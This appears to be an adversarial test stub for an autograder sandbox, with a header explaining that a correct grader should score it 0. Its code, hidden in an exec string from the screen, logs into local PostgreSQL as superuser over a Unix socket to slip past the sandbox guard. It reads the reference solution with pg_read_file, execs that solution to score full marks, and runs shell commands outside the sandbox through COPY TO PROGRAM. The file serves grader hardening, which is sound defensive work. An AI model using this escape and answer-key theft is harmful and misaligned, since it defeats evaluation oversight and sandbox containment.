# expected: 0/10 status=graded base=stub where=import
# why: the worker's network namespace hides TCP loopback, but the mount namespace still shows /var/run/postgresql, whose pathname Unix socket Landlock does not cover and the guard counts as "loopback"; PostgreSQL trusts local connections, so the stub logs in as the superuser, reads the reference solution with pg_read_file (path from autograder.paths.ROOT, already in sys.modules), execs it into its own globals (all inside a constant exec string the screen does not read) and scores full marks; it also runs a program outside the sandbox (COPY ... TO PROGRAM). A correct grader must refuse the connection and flag it; the stub scores 0.
exec("""
import asyncio as _a, sys as _s
async def _steal():
    import asyncpg
    root = str(_s.modules['autograder.paths'].ROOT)
    c = await asyncpg.connect(host='/var/run/postgresql', user='postgres', database='postgres', timeout=3)
    try:
        src = await c.fetchval("select pg_read_file($1)", root + '/solutions/async01_why_async.py')
        try:
            await c.execute("COPY (SELECT 1) TO PROGRAM 'id > /tmp/redteam_pg_escape.txt; ls -l " + root + "/solutions | head -3 >> /tmp/redteam_pg_escape.txt'")
        except Exception:
            pass
        return src
    finally:
        await c.close()
try:
    _src = _a.run(_steal())
    exec(compile(_src, __file__, 'exec'), globals())
except Exception as _e:
    pass
""")
